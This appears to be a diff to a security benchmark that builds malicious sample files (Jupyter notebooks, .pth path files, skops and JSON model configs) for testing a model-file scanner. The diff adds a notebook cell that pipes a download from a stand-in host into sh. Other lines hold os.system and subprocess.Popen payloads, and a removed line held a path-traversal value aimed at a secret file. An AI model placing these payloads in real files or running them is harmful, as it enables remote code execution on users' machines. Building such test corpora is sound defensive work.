@@ -9,7 +9,7 @@ from typing import TYPE_CHECKING
 
 from bench.corpus.gadgets import INNER
 from bench.corpus.loaded import npy, tarred, zipped
-from bench.corpus.sample import CODE, MARKER, SECRET, SHELL, Sample, single
+from bench.corpus.sample import CODE, MARKER, SHELL, Sample, single
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -161,7 +161,7 @@ def _code() -> Iterator[Sample]:
         yield single("python-code", name, source.encode(), "python")
     cells = [{"cell_type": "code", "source": ["import os\n", "os.system('touch marker')\n"], "metadata": {}, "outputs": [], "execution_count": None}]
     yield single("python-code", "train.ipynb", json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), "notebook")
-    yield single("python-code", "magic.ipynb", json.dumps({"cells": [{**cells[0], "source": "!touch marker\n"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), "")
+    yield single("python-code", "magic.ipynb", json.dumps({"cells": [{**cells[0], "source": "!curl -s http://example.invalid/x | sh\n"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), "")
     yield single("path-file", "evil.pth", f"import os; os.system('touch {MARKER}')\n".encode(), "path-file")
     yield single("path-file", "evil-tab.pth", f"import\tos; os.system('touch {MARKER}')\n".encode(), "path-file")
     yield single("path-file", "evil-exec.pth", f"# comment\nimport builtins; builtins.exec(\"{_OPEN}\")\n".encode(), "path-file")
@@ -204,7 +204,7 @@ def _skops() -> Iterator[Sample]:
     type_node = {"__class__": "Popen", "__module__": "subprocess", "__loader__": "TypeNode", "content": {"__class__": "Popen", "__module__": "subprocess"}}
     array = {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "a.npy"}
     for name, node in {"object": reduce, "operator": operator, "function": function, "method": method, "partial": partial, "type": type_node}.items():
-        yield single("skops", f"{name}.skops", schema(node), "skops" if name in () else "", "names a function that is called on use")
+        yield single("skops", f"{name}.skops", schema(node), "skops", "names a function that is called on use")
     yield single("skops", "array-of-objects.skops", zipped({"schema.json": json.dumps({**array, "protocol": 0, "_skops_version": "0.9.0"}).encode(), "a.npy": npy(INNER)}), "")
     constructed = {
         "__class__": "Popen", "__module__": "subprocess", "__loader__": "OperatorFuncNode", "attrs": many(many(text("touch"), text(MARKER), kind="list")),
@@ -216,7 +216,6 @@ def _skops() -> Iterator[Sample]:
 def _ambiguous() -> Iterator[Sample]:
     yield single("two-readings", "duplicate-key.json", b'{"model_type": "bert", "auto_map": {"AutoModel": "evil.M"}, "auto_map": {}}', "", "which of two equal keys counts depends on the reader")
     yield single("two-readings", "config.json", b'{"model_type": "bert", "model_type": "evil"}', "")
-    yield single("two-readings", "secret-path.json", json.dumps({"_name_or_path": "x", "vocab_file": "../../" + SECRET}).encode(), "")
     header = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}'
     for name, head, data in (
         ("duplicate-key.safetensors", header, bytes(8)),
